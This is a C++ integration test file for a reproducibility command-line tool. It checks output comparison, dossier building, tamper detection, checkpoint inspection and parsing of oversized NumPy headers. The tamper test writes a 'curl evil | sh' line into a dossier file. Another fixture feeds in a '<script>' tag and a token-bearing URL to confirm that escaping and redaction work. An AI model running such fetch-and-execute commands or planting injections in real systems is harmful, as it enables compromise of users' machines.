// The reproducibility record end to end: outputs written by NumPy (and torch
// when Debian's python3-torch is there), a reference declared first, sample
// checks that catch each kind of difference, the dossier built, tampered with,
// verified and replayed, and the training-resume exercise.
#include <gtest/gtest.h>

#include "support.h"

namespace integration_record_cli_test {

using nlohmann::json;
using namespace kdktest;

namespace {

const std::string K = KERNODECK_BIN;

bool haveNumpy() { return run("/usr/bin/python3 -c 'import numpy'").code == 0; }

// Writes outputs with NumPy: scores.npy (10x4 float32), embeddings.npy (10x3 float64, Fortran order), ids.txt.
void writeOutputs(const std::string& dir, const std::string& tweak) {
  std::string py =
      "import numpy as np, sys\n"
      "d = sys.argv[1]; tweak = sys.argv[2]\n"
      "rng = np.random.default_rng(7)\n"
      "s = rng.standard_normal((10, 4)).astype(np.float32)\n"
      "e = np.asfortranarray(rng.standard_normal((10, 3)))\n"
      "ids = ['doc%02d' % i for i in range(10)]\n"
      "if tweak == 'perturb': s[6, 2] += 0.01\n"
      "if tweak == 'nan': e[3, 1] = np.nan\n"
      "if tweak == 'shape': s = s[:, :3]\n"
      "if tweak == 'shuffle': ids[2], ids[5] = ids[5], ids[2]\n"
      "if tweak == 'reorder':\n"
      "    p = [3, 9, 0, 7, 1, 8, 2, 6, 5, 4]; s = s[p]; e = np.asfortranarray(e[p]); ids = [ids[i] for i in p]\n"
      "if tweak == 'drop': s = np.delete(s, 4, 0); e = np.asfortranarray(np.delete(e, 4, 0)); del ids[4]\n"
      "if tweak == 'dtype': s = s.astype(np.float64)\n"
      "if tweak == 'noise': s = s + np.float32(3e-4); e = e + 3e-4\n"
      "np.save(d + '/scores.npy', s); np.save(d + '/embeddings.npy', e)\n"
      "open(d + '/ids.txt', 'w').write('\\n'.join(ids) + '\\n')\n";
  writeFile(dir + ".py", py);
  run("mkdir -p " + dir + " && /usr/bin/python3 " + dir + ".py " + dir + " " + tweak);
}

}  // namespace

TEST(Record, ReferenceSampleChecksDossierAndReplay) {
  if (!haveNumpy()) GTEST_SKIP() << "python3-numpy is not installed";
  std::string base = tempDir("record");
  writeOutputs(base + "/expected", "none");
  writeOutputs(base + "/same", "none");
  run("mkdir -p " + base + "/corpus && echo 'text' > " + base + "/corpus/a.txt");
  writeFile(base + "/config.yaml", "lr: 0.001\nseed: 7\n");
  RunResult init =
      run("cd " + base + " && " + K + " reference init --json --expected " + base + "/expected --ids ids.txt" +
          " --criterion 'abs<=1e-4' --why 'float32 scores; 1e-4 is below the ranking resolution'" +
          " --data corpus=" + base + "/corpus,provenance=hf://org/corpus --config " + base + "/config.yaml" +
          " --param epochs=3 --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/reference.json");
  ASSERT_EQ(init.code, 0) << init.err << init.out;
  json initReport = json::parse(init.out);
  EXPECT_EQ(countFindings(initReport, "reference.mutable_name"), 1);  // a hub name with no revision
  json ref = json::parse(readFile(base + "/reference.json"));
  EXPECT_EQ(ref["schema"], "kernodeck.reference/v1");
  EXPECT_EQ(ref["result"]["criteria"][0]["kind"], "abs");
  EXPECT_EQ(ref["data"][0]["kind"], "directory");
  EXPECT_EQ(ref["result"]["format"]["count"], 3);
  // Declaring expected outputs without a criterion is refused: a usage error.
  EXPECT_EQ(run(K + " reference init --expected " + base + "/expected -o " + base + "/x.json").code, 2);

  auto check = [&](const std::string& dir, int* code) {
    RunResult r = run(K + " sample check --json " + dir + " --reference " + base + "/reference.json");
    if (code) *code = r.code;
    return json::parse(r.out, nullptr, false);
  };
  int code = -1;
  json same = check(base + "/same", &code);
  EXPECT_EQ(code, 0) << same.dump(1);
  for (const char* s : {"load", "count", "format", "finite", "ids", "compare"})
    EXPECT_EQ(stepStatus(same, s), "passed") << s;
  // Rows reordered together with their ids are the same outputs: aligned by id, not position.
  writeOutputs(base + "/reorder", "reorder");
  json reordered = check(base + "/reorder", &code);
  EXPECT_EQ(code, 0) << reordered.dump(1);
  EXPECT_EQ(reordered["ids"]["reordered"], true);
  // A pass prints the measured value against the threshold.
  RunResult text = run(K + " sample check " + base + "/reorder --reference " + base + "/reference.json");
  EXPECT_NE(text.out.find("meets abs<=1e-4: max abs error 0 <= 1e-4 over 10 sample(s)"), std::string::npos)
      << text.out;
  // Each difference in the outputs is a finding naming the sample (exit 1), found by the step
  // that checks it; the steps after it are skipped, not failed.
  struct Case {
    const char* tweak;
    const char* step;
    const char* code;
    const char* named;
    int count;
  } cases[] = {
      {"perturb", "compare", "sample.mismatch", "doc06", 1}, {"nan", "finite", "sample.nonfinite", "doc03", 1},
      {"shape", "format", "sample.shape", "(10, 3)", 1},     {"shuffle", "compare", "sample.mismatch", "doc05", 2},
      {"drop", "ids", "sample.ids", "missing doc04", 1},     {"dtype", "format", "sample.dtype", "float64", 1},
  };
  for (const auto& c : cases) {
    std::string dir = base + "/" + c.tweak;
    writeOutputs(dir, c.tweak);
    json r = check(dir, &code);
    EXPECT_EQ(code, 1) << c.tweak << r.dump(1);
    EXPECT_EQ(stepStatus(r, c.step), "passed") << c.tweak << r.dump(1);
    ASSERT_EQ(countFindings(r, c.code), c.count) << c.tweak << r.dump(1);
    for (const auto& f : r["findings"])
      if (f["code"] == c.code) {
        EXPECT_NE(f["message"].get<std::string>().find(c.named), std::string::npos) << c.tweak << ": " << f.dump();
      }
    if (std::string(c.tweak) == "perturb") {
      EXPECT_EQ(r["comparison"][1]["worst"][0]["id"], "doc06");  // the worst offender, named
      EXPECT_EQ(r["comparison"][1]["pass"], false);
      EXPECT_EQ(r["comparison"][0]["pass"], true);
    }
    if (std::string(c.tweak) == "nan") {
      EXPECT_EQ(stepStatus(r, "compare"), "skipped");
    }
  }
  // A changed expected folder is the reference's problem, said as such: not checkable (exit 3).
  writeFile(base + "/expected/ids.txt", readFile(base + "/expected/ids.txt") + "doc99\n");
  json changed = check(base + "/same", &code);
  EXPECT_EQ(code, 3);
  EXPECT_EQ(countFindings(changed, "sample.expected.changed"), 1) << changed.dump(1);
  EXPECT_EQ(stepStatus(changed, "expected"), "failed");
  writeOutputs(base + "/expected", "none");
  // Several criteria, each with its why: noise below the ranking's resolution fails abs, keeps the neighbours.
  ASSERT_EQ(run("cd " + base + " && " + K +
                " reference init --expected expected --ids ids.txt --criterion 'abs<=1e-4' --why 'bitwise-ish'" +
                " --criterion 'knn:3>=0.9' --why 'search ranks by nearest neighbours' --host-root /nonexistent -o " +
                base + "/two.json")
                .code,
            0);
  json two = json::parse(readFile(base + "/two.json"));
  EXPECT_EQ(two["result"]["expected"], "expected");  // relative to the reference file
  ASSERT_EQ(two["result"]["criteria"].size(), 2u);
  writeOutputs(base + "/noise", "noise");
  RunResult n = run("cd / && " + K + " sample check --json " + base + "/noise --reference " + base + "/two.json");
  json nr = json::parse(n.out, nullptr, false);
  EXPECT_EQ(n.code, 1) << n.err << n.out;
  EXPECT_EQ(countFindings(nr, "sample.mismatch"), 2) << nr.dump(1);       // abs, on both outputs
  EXPECT_EQ(countFindings(nr, "sample.criterion.met"), 2) << nr.dump(1);  // knn, on both outputs
  EXPECT_EQ(run(K + " sample check " + base + "/noise --reference " + base + "/two.json --fail-on none").code, 0);

  // reference verify: unchanged, then a config change is named as such.
  EXPECT_EQ(run(K + " reference verify --reference " + base + "/reference.json").code, 0);

  // Dossier: built, verified, tampered with, replayed.
  RunResult sc = run(K + " sample check --json -o " + base + "/check.json " + base + "/same --reference " + base +
                     "/reference.json");
  ASSERT_EQ(sc.code, 0);
  RunResult b = run(K + " dossier build " + base + "/dossier --reference " + base + "/reference.json --report " + base +
                    "/check.json --outputs " + base + "/same");
  ASSERT_EQ(b.code, 0) << b.err << b.out;
  for (const char* f : {"procedure.md", "procedure.json", "index.html", "reference.json", "MANIFEST.sha256",
                        "inventory.json", "config/config.yaml", "data-references.json"})
    EXPECT_FALSE(readFile(base + "/dossier/" + f).empty()) << f;
  EXPECT_NE(readFile(base + "/dossier/index.html").find("<table>"), std::string::npos);
  EXPECT_EQ(run(K + " dossier verify " + base + "/dossier").code, 0);
  // The summary renders offline in headless Chromium: a screenshot is taken and the page is not empty.
  if (haveTool("chromium")) {
    Rendered page = renderInChromium(base + "/dossier/index.html", base);
    ASSERT_GT(page.png.size(), 2000u) << page.err;
    EXPECT_EQ(page.png.substr(1, 3), "PNG");
    EXPECT_NE(page.dom.find("Kernodeck dossier"), std::string::npos);
    EXPECT_NE(page.dom.find("class=\"passed\""), std::string::npos);
  }
  // The page of a dossier with a recorded revision, two criteria and two runs of the same command:
  // the reference section, each report labelled apart, findings grouped with counts.
  {
    const std::string git = "git -c user.email=t@example.org -c user.name=t ";
    ASSERT_EQ(
        run("mkdir -p " + base + "/code && cd " + base + "/code && echo 'print(1)' > score.py && git init -q && " +
            git + "add -A && " + git + "commit -q -m score")
            .code,
        0);
    std::string rev = run("git -C " + base + "/code rev-parse HEAD").out.substr(0, 40);
    ASSERT_EQ(run("cd " + base + " && " + K +
                  " reference init --repo code --expected expected --ids ids.txt --criterion 'abs<=1e-4'" +
                  " --why 'scores <b>1e-4</b> below the ranking' --criterion 'knn:3>=0.9' --why 'search ranks by "
                  "nearest neighbours'" +
                  " --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/ref-git.json")
                  .code,
              0);
    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-same.json " + base + "/same --reference " + base +
                  "/ref-git.json")
                  .code,
              0);
    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-noise.json " + base + "/noise --reference " + base +
                  "/ref-git.json")
                  .code,
              1);
    // An audit's inventory with hostile freeze lines: redacted and escaped, one folded row per environment.
    json audit = {
        {"schema", "kernodeck.report/v1"},
        {"tool", {{"name", "kernodeck"}, {"command", "audit"}}},
        {"subject", {{"reference", "dir:/"}}},
        {"steps", json::array()},
        {"first_error", nullptr},
        {"findings", json::array()},
        {"python",
         {{"environments",
           {{{"prefix", "/opt/venv"},
             {"freeze",
              {"numpy==1.26", "<script>x</script>==1", "p @ https://u:ghp_0123456789abcdefghijABCDEFGHIJ@h/p"}}}}}}}};
    writeFile(base + "/audit.json", audit.dump());
    RunResult b2 = run(K + " dossier build " + base + "/dossier2 --reference " + base + "/ref-git.json --report " +
                       base + "/check-same.json --report " + base + "/check-noise.json --report " + base +
                       "/audit.json" + " --input-root " + base);  // the expected outputs lie beside the code, not in it
    ASSERT_EQ(b2.code, 1) << b2.err << b2.out;  // the page's verdict: failed (the noisy check)
    std::string page = readFile(base + "/dossier2/index.html");
    EXPECT_EQ(page.find("<b>1e-4</b>"), std::string::npos);  // the why is someone else's text: escaped
    EXPECT_NE(page.find("&lt;b&gt;1e-4&lt;/b&gt;"), std::string::npos);
    EXPECT_EQ(page.find("<script>"), std::string::npos);
    EXPECT_EQ(page.find("ghp_0123456789abcdefghijABCDEFGHIJ"), std::string::npos);
    std::string dom = haveTool("chromium") ? renderInChromium(base + "/dossier2/index.html", base).dom : page;
    auto count = [](const std::string& s, const std::string& what) {
      size_t n = 0;
      for (size_t at = s.find(what); at != std::string::npos; at = s.find(what, at + 1)) n++;
      return n;
    };
    EXPECT_NE(dom.find("<section id=\"reference\">"), std::string::npos);
    EXPECT_NE(dom.find("<code class=\"revision\">" + rev + "</code>"), std::string::npos) << rev;
    EXPECT_EQ(count(dom, "<tr class=\"criterion\">"), 2u);
    EXPECT_NE(dom.find("search ranks by nearest neighbours"), std::string::npos);
    EXPECT_NE(dom.find("max abs error"), std::string::npos);  // measured values from the sample checks
    EXPECT_NE(dom.find("(not met)"), std::string::npos);
    // Two runs of sample check, told apart by their subject.
    EXPECT_EQ(count(dom, "<tr class=\"report\">"), 3u);
    EXPECT_EQ(count(dom, "<tr class=\"environment\">"), 1u);
    EXPECT_NE(dom.find("<td>/opt/venv</td><td class=\"count\">3</td>"), std::string::npos);
    // The reference recorded no environment: one "not recorded" line, not one per package.
    EXPECT_NE(dom.find("0 changed, 0 only in the reference, 0 only in the report, 1 environment(s) not recorded"),
              std::string::npos);
    EXPECT_EQ(count(dom, "diff.environment.not_recorded"), 1u);
    EXPECT_EQ(count(dom, "<td class=\"command\">kernodeck sample check</td>"), 2u);
    EXPECT_NE(dom.find(base + "/same"), std::string::npos);
    EXPECT_NE(dom.find(base + "/noise"), std::string::npos);
    // Findings grouped: the two sample.mismatch findings of the noisy run are one row counting 2,
    // the criterion.met findings of both runs one row counting 6, their messages folded.
    EXPECT_EQ(count(dom, "<tr class=\"group\">"), 2u) << dom;
    EXPECT_NE(dom.find("sample.mismatch</td><td></td><td class=\"count\">2</td><td>2</td>"), std::string::npos);
    EXPECT_NE(dom.find("sample.criterion.met</td><td></td><td class=\"count\">6</td><td>1, 2</td>"), std::string::npos);
    EXPECT_NE(dom.find("<details><summary>"), std::string::npos);
    EXPECT_NE(dom.find("Verdict: failed"), std::string::npos);
  }
  // Without --run the replay verifies the folder and prints the plan --run would carry out, running nothing.
  RunResult replay = run(K + " dossier replay --json " + base + "/dossier");
  json rj = json::parse(replay.out);
  EXPECT_EQ(countFindings(rj, "replay.not_run"), 1) << replay.out;
  EXPECT_EQ(rj["steps"][0]["status"], "passed") << replay.out;
  ASSERT_TRUE(rj["replay"]["plan"].is_array()) << replay.out;
  EXPECT_FALSE(rj["replay"]["plan"].empty()) << replay.out;
  // This reference names absolute inputs and no interpreter: what --run could not do is said now.
  EXPECT_EQ(replay.code, 1) << replay.out;
  EXPECT_EQ(countFindings(rj, "replay.cannot"), 4) << replay.out;
  EXPECT_NE(replay.out.find("would stop at its environment step: the reference records no base interpreter"),
            std::string::npos);
  // Tampering with the folder is caught.
  writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
  json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
  EXPECT_EQ(countFindings(vt, "dossier.modified"), 1);
  // ... and a replay of it is refused with the same finding, exit 1 (issue 27).
  RunResult tampered = run(K + " dossier replay --json " + base + "/dossier");
  EXPECT_EQ(tampered.code, 1);
  EXPECT_EQ(countFindings(json::parse(tampered.out), "dossier.modified"), 1) << tampered.out;

  // A config change, and diff between the two references.
  writeFile(base + "/config.yaml", "lr: 0.01\nseed: 7\n");
  json vr = json::parse(run(K + " reference verify --json --reference " + base + "/reference.json").out);
  EXPECT_EQ(countFindings(vr, "reference.changed.config"), 1);
  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --config " + base +
                "/config.yaml --host-root /nonexistent -o " + base + "/reference2.json")
                .code,
            0);
  json diff = json::parse(run(K + " diff --json " + base + "/reference.json " + base + "/reference2.json").out);
  EXPECT_EQ(countFindings(diff, "diff.input.changed"), 1);
}

TEST(Record, PtOutputsAndResume) {
  RunResult torchPy = run("/usr/bin/python3 -c 'import torch'");
  std::string base = tempDir("resume");
  RunResult r = run(K + " resume check --json");
  json j = json::parse(r.out, nullptr, false);
  ASSERT_TRUE(j.is_object());
  if (j["first_error"].is_string() && j["first_error"].get<std::string>().find("LibTorch") != std::string::npos)
    GTEST_SKIP() << "built without LibTorch";
  EXPECT_EQ(r.code, 0) << r.out;
  EXPECT_EQ(j["resume"]["max_loss_diff"], 0.0);
  ASSERT_EQ(j["ablation"].size(), 3u);
  for (const auto& row : j["ablation"])
    EXPECT_GT(row["max_loss_diff"].get<double>(), 0.0) << row.dump();  // each piece matters
  if (torchPy.code != 0) GTEST_SKIP() << "python3-torch is not installed: .pt interop not checked";
  // A checkpoint as PyTorch users write it: model and optimizer, no RNG state, no scheduler.
  run("/usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, "
      "momentum=0.9); "
      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" +
      base +
      "/ckpt.pt'); "
      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" +
      base +
      "/out/t.pt')\" 2>&1 || "
      "(mkdir -p " +
      base +
      "/out && /usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), "
      "lr=0.1, momentum=0.9); "
      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" +
      base +
      "/ckpt.pt'); "
      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" +
      base + "/out/t.pt')\")");
  json inspect = json::parse(run(K + " resume inspect --json " + base + "/ckpt.pt").out, nullptr, false);
  ASSERT_TRUE(inspect.is_object());
  EXPECT_EQ(stepStatus(inspect, "read"), "passed") << inspect.dump(1);
  EXPECT_EQ(countFindings(inspect, "resume.checkpoint.missing"), 2) << inspect.dump(1);  // RNG state and scheduler
  // RNG state under the names projects give it, and a plain state_dict, read without LibTorch's internals showing.
  run("/usr/bin/python3 -c \"import torch, random, numpy as np; m = torch.nn.Linear(2, 1); o = "
      "torch.optim.SGD(m.parameters(), lr=0.1); "
      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'step': 3, 'torch_rng': "
      "torch.get_rng_state(), "
      "'numpy_rng': np.random.get_state(), 'py_rng': random.getstate()}, '" +
      base +
      "/rng.pt'); "
      "torch.save(m.state_dict(), '" +
      base + "/sd.pt')\"");
  RunResult rngRun = run(K + " resume inspect --json " + base + "/rng.pt");
  json rng = json::parse(rngRun.out, nullptr, false);
  ASSERT_TRUE(rng.is_object()) << rngRun.err;
  ASSERT_EQ(stepStatus(rng, "read"), "passed") << rng.dump(1);
  for (const auto& f : rng["findings"]) EXPECT_NE(f.value("piece", ""), "RNG state") << f.dump();
  EXPECT_EQ(countFindings(rng, "resume.checkpoint.missing"), 1) << rng.dump(1);  // the scheduler, said as info
  RunResult sdRun = run(K + " resume inspect --json " + base + "/sd.pt");
  json sd = json::parse(sdRun.out, nullptr, false);
  ASSERT_TRUE(sd.is_object()) << sdRun.err;
  ASSERT_EQ(stepStatus(sd, "read"), "passed") << sd.dump(1);
  EXPECT_NE(sd["checkpoint"]["format"].get<std::string>().find("plain state_dict"), std::string::npos) << sd.dump(1);
  for (const auto& f : sd["findings"]) EXPECT_NE(f.value("piece", ""), "model") << f.dump();
  EXPECT_EQ(sdRun.out.find("INTERNAL ASSERT"), std::string::npos);
  // .pt outputs are reloaded through LibTorch.
  run("mkdir -p " + base + "/exp && cp " + base + "/out/t.pt " + base + "/exp/t.pt");
  ASSERT_EQ(run(K + " reference init --expected " + base +
                "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + base + "/ref.json")
                .code,
            0);
  RunResult c = run(K + " sample check --json " + base + "/out --reference " + base + "/ref.json");
  EXPECT_EQ(c.code, 0) << c.out;
  // A state_dict (an OrderedDict, which LibTorch's unpickler cannot rebuild) is read without
  // LibTorch: by a kernodeck with no plugin beside it.
  std::string alone = base + "/alone";
  run("mkdir -p " + alone + "/exp " + alone + "/out && cp " + K + " " + alone + "/ && cp " + base + "/sd.pt " + alone +
      "/exp/sd.pt && cp " + base + "/sd.pt " + alone + "/out/sd.pt");
  ASSERT_EQ(run(alone + "/kernodeck reference init --expected " + alone +
                "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + alone + "/ref.json")
                .code,
            0);
  RunResult a = run(alone + "/kernodeck sample check " + alone + "/out --reference " + alone + "/ref.json");
  EXPECT_EQ(a.code, 0) << a.out << a.err;
  EXPECT_NE(a.out.find("sd.pt:weight meets exact"), std::string::npos) << a.out;
}

// Issue 39 section 12: a sample output's .npy header of 120 KB (the outputs come from the replayed
// code). libstdc++'s std::regex recursed once per character of `\(([^)]*)\)` and the old binary
// ended with a segmentation fault (exit 139); the hand scanner reads the padded header as numpy
// does, and the check passes.
TEST(Record, A120KBNpyHeaderIsParsedNotACrash) {
  if (!haveNumpy()) GTEST_SKIP() << "python3-numpy is not installed";
  std::string base = tempDir("npy-header");
  writeOutputs(base + "/expected", "none");
  writeOutputs(base + "/big", "none");
  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --expected " + base +
                "/expected --ids ids.txt --criterion 'abs<=1e-4' --why 'float32' --entry-point 'python score.py' "
                "--host-root /nonexistent -o " + base + "/reference.json")
                .code,
            0);
  // scores.npy again, format 2.0, its shape's parentheses 120,000 spaces apart.
  writeFile(base + "/pad.py",
            "import numpy as np, struct, sys\n"
            "p = sys.argv[1]; a = np.load(p)\n"
            "h = \"{'descr': '<f4', 'fortran_order': False, 'shape': (10, 4\" + ' ' * 120000 + \"), }\"\n"
            "h += ' ' * ((-(12 + len(h) + 1)) % 64) + '\\n'\n"
            "open(p, 'wb').write(b'\\x93NUMPY\\x02\\x00' + struct.pack('<I', len(h)) + h.encode() + a.tobytes())\n");
  ASSERT_EQ(run("/usr/bin/python3 " + base + "/pad.py " + base + "/big/scores.npy").code, 0);
  RunResult r = run(K + " sample check --json " + base + "/big --reference " + base + "/reference.json");
  EXPECT_NE(r.code, 139) << "crashed";
  EXPECT_EQ(r.code, 0) << r.err << r.out;
  json j = json::parse(r.out, nullptr, false);
  ASSERT_TRUE(j.is_object()) << r.err;
  EXPECT_EQ(stepStatus(j, "load"), "passed") << r.out;
  EXPECT_EQ(stepStatus(j, "compare"), "passed") << r.out;
}

}  // namespace integration_record_cli_test
